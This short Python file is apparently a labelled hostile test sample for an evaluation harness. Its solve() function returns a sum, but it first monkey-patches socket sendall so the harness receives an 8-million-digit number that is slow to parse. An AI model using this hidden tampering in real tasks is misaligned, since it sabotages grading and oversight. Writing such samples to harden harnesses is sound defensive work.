# hostile: forbidden access: a JSON number that takes for ever to read
import socket
import struct

send = socket.socket.sendall


def digits(self, data, *flags):
    text = b"9" * 8_000_000
    send(self, struct.pack("<4sII", b"HT1\n", len(text), 0) + text, *flags)


def solve(numbers):
    socket.socket.sendall = digits
    return sum(numbers)
